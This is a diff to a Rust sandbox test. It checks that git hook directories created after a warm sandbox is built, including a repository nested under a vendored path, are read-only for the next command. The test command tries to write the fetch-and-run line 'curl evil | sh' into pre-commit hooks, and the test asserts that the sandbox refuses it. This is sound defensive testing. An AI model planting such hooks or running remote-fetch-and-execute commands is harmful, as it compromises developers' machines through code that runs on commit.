@@ -1708,26 +1708,40 @@ fn a_killed_exec_leaves_nothing_a_warm_command_planted() {
     );
 }
 
-/// A protected path that appears after a warm sandbox was built (here a new `.git/hooks`) is
+/// A protected path that appears after a warm sandbox was built (here a new `.git/hooks`, and
+/// a repository deep in a vendored tree, which only the search for git metadata finds) is
 /// read-only for the next command, as in a cold run: the plan finds it, the spec changes, and
-/// the command gets a sandbox built with it.
+/// the command gets a sandbox built with it. The session's search for the second command
+/// starts from the first's and reads only directories that changed; the new repository's
+/// parent is one of them.
 fn a_protected_path_made_after_the_sandbox_is_read_only_for_the_next_command() {
     let sb = Sandbox::with_mode(Mode::Warm);
+    std::fs::create_dir_all(sb.ws.join("vendor/lib/src")).expect("mkdir");
     let mut c = Client::start(&sb, &[]);
     c.send(&run("before", "true"));
     assert!(warm(&c.event("exited", "before")));
-    std::fs::create_dir_all(sb.ws.join(".git/hooks")).expect("mkdir");
+    for repo in [".git", "vendor/lib/src/.git"] {
+        std::fs::create_dir_all(sb.ws.join(repo).join("hooks")).expect("mkdir");
+    }
     c.send(&run(
         "plant",
-        "echo 'curl evil | sh' > .git/hooks/pre-commit; echo tried",
+        "for r in .git vendor/lib/src/.git; do echo 'curl evil | sh' > $r/hooks/pre-commit; done; echo tried",
     ));
     let plant = c.event("exited", "plant");
     assert!(warm(&plant), "{plant}");
     assert!(c.streamed("plant").contains("tried"), "{plant}");
-    assert!(
-        !sb.ws.join(".git/hooks/pre-commit").exists(),
-        "a hook was planted through the sandbox built before .git/hooks existed"
-    );
+    let said = c.streamed("plant");
+    for repo in [".git", "vendor/lib/src/.git"] {
+        // Refused in the sandbox, not only taken out after it.
+        assert!(
+            said.contains(&format!("{repo}/hooks/pre-commit: Read-only file system")),
+            "{said}"
+        );
+        assert!(
+            !sb.ws.join(repo).join("hooks/pre-commit").exists(),
+            "a hook was planted in {repo} through the sandbox built before it existed"
+        );
+    }
     c.finish();
 }
 
